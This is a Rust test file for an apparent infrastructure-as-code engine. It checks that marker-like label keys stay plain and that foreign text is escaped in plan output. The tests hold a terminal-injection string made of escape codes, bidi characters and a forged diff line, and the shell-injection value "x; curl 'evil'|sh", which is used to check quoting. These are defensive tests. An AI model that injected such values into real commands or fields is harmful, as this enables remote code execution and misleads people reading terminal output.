//! Texts of users and of others: keys that look like the engine's, and characters that act on a terminal.

use std::collections::BTreeMap;

use serde_json::json;
use sprocket_core::program::{DraftExt as _, Output, Stack};

use super::fake_kinds::{Post, Stone};
use super::simulated_service::{Conf, Net};
use super::story::{Story, assert_snapshot};

/// Keys that the engine has a meaning for.
const MARKS: [&str; 6] = ["$after", "$sealed", "$fingerprint", "$assigned", "$secret", "$$after"];

#[test]
fn keys_of_users_that_look_like_marks_are_plain_keys() {
    for marker in MARKS {
        let program = |value: &'static str| {
            move |stack: &mut Stack| {
                stack.add(Net::new("edge").label(marker, value));
                stack.add(Conf::new("motd", "hello").label(marker, value));
                stack.output("map", &Output::known(BTreeMap::from([(marker.to_owned(), value.to_owned())])));
            }
        };
        let mut story = Story::new();
        let text = story.plan(program("one"));
        assert!(text.contains(&format!("labels: {{{marker}: one}}")), "{marker}: {text}");
        assert!(text.contains(&format!("output map: (none) → {{{marker}: one}}")), "{marker}: {text}");
        story.apply(program("one"));
        assert_eq!(story.world.spec::<Net>("edge").unwrap().labels[marker], "one");
        let outputs = story.world.block_on(story.world.engine().outputs(true)).unwrap();
        assert_eq!(outputs["map"], json!({ marker: "one" }));
        let text = story.plan(program("two"));
        assert!(text.contains(&format!("labels.{marker}: one → two")), "{marker}: {text}");
        assert_eq!(story.apply(program("two")).len(), 2, "{marker}");
        // Others may have such keys too.
        story.world.change::<Net>("edge", |spec| drop(spec.labels.insert(marker.into(), "theirs".into())));
        let text = story.plan(program("two"));
        assert!(text.contains(&format!("labels.{marker}: theirs → two")), "{marker}: {text}");
        story.apply(program("two"));
    }
}

#[test]
fn a_key_with_a_mark_can_be_left_to_others() {
    let program = |value: &'static str| {
        move |stack: &mut Stack| {
            stack.add(Post::new("gate").tag("$x", value).tag("a", value).ignore_key("tags", "$x"));
        }
    };
    let mut story = Story::in_yard();
    story.apply(program("one"));
    story.yard.change::<Post>("gate", |spec, _| drop(spec.tags.insert("$x".into(), "theirs".into())));
    assert!(story.plan(program("one")).starts_with("Nothing to do"));
    story.apply(program("two"));
    assert_eq!(story.yard.spec::<Post>("gate").tags["$x"], "theirs");
}

#[test]
fn nothing_of_others_acts_on_a_terminal_or_forges_a_line() {
    let acts = ["\u{1b}[2J", "\r", "\u{7}", "\u{202e}", "\u{200b}", "\n+ lab:net/forged", "\u{9b}"].concat();
    let mut maker = Story::in_yard();
    maker.apply(|stack| drop(stack.add(Stone::new("gate").text("a"))));
    let mut story = Story::in_yard_of(&maker);
    story.yard.change::<Stone>("gate", |spec, _| {
        spec.text = acts.clone();
        spec.tags.insert(acts.clone(), acts.clone());
        spec.neighbours.push(acts.clone());
    });
    let program = |stack: &mut Stack| {
        stack.add(Stone::new("gate").text("a").adopt());
        stack.output(acts.as_str(), &Output::known(acts.clone()));
        let late = stack.look(super::fake_kinds::Sign { id: acts.clone() });
        stack.add(Post::new("post").text(&late));
    };
    let text = story.plan(program);
    assert!(!text.contains(|c: char| c.is_control() && c != '\n'), "{text:?}");
    assert!(!text.contains(['\u{202e}', '\u{200b}']), "{text:?}");
    assert!(!text.lines().any(|line| line.starts_with("+ lab:net/forged")), "{text}");
    assert!(text.contains(r"\u{1b}[2J\r\u{7}\u{202e}\u{200b}"), "it is shown: {text}");
}

#[test]
fn an_id_in_a_command_is_one_word() {
    let mut maker = Story::in_yard();
    maker.apply(|stack| drop(stack.add(Stone::new("gate").text("a"))));
    let mut story = Story::in_yard_of(&maker);
    story.yard.change::<Stone>("gate", |_, state| state.id = "x; curl 'evil'|sh".into());
    assert_snapshot!(story.plan(|stack| drop(stack.add(Stone::new("gate").text("a")))), @r"
    problem: `yard:stone/gate`: an object named `gate` exists already, and this stack does not own it  (FILE:LINE)
      hint: take it over with `.adopt()` or `import yard:stone/gate 'x; curl '\''evil'\''|sh'`
    1 problem: nothing can be applied until it is solved.
    ");
}
